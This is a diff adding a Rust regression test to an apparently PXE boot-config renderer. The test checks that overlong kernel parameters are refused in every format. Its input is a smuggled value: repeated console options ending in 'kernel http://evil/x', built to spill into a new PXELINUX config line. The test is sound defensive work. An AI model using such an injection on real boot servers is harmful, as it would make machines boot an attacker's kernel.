@@ -571,3 +571,38 @@ fn a_word_starting_with_hash_in_kernel_parameters_is_refused_where_it_is_a_comme
         pxe.body
     );
 }
+
+/// PXELINUX reads a config line in 4095-byte pieces and parses the next piece as a line of
+/// its own, so parameters long enough together could start a `kernel http://evil/x` line;
+/// and any boot loader cuts a kernel command line past 2048 bytes, losing BOOTIF and the
+/// callback URL at its end. Parameters too long together are refused in every format.
+#[test]
+fn kernel_parameters_too_long_together_are_refused_in_every_format() {
+    let append = format!("{} kernel http://evil/x", "console=ttyS0 ".repeat(200));
+    let json = serde_json::json!({
+        "uuid": "1be26c0b-03f2-4d2e-ae87-c02d7f33c123", "provision_state": "deploying",
+        "driver_info": {"deploy_kernel": "http://img/k", "deploy_ramdisk": "http://img/r",
+                        "kernel_append_params": append},
+        "ports": [{"address": "52:54:00:00:00:01"}]
+    })
+    .to_string();
+    let store = Store::new(IndexConfig::default());
+    store.apply(vec![(
+        SourceId::File("a.json".into()),
+        Update::Replace(StateDoc::from_slice(json.as_bytes()).expect("parses")),
+    )]);
+    let s = store.current();
+    let m = s
+        .by_addr(&AnyAddr::parse("52:54:00:00:00:01").expect("mac"))
+        .expect("node");
+    let r = renderer();
+    for f in Format::ALL {
+        match r.render(Some(&m), f, None, &server()) {
+            Err(e) => assert!(
+                e.to_string().starts_with("kernel parameters = "),
+                "{f}: {e}"
+            ),
+            Ok(out) => panic!("{f} rendered:\n{}", out.body),
+        }
+    }
+}
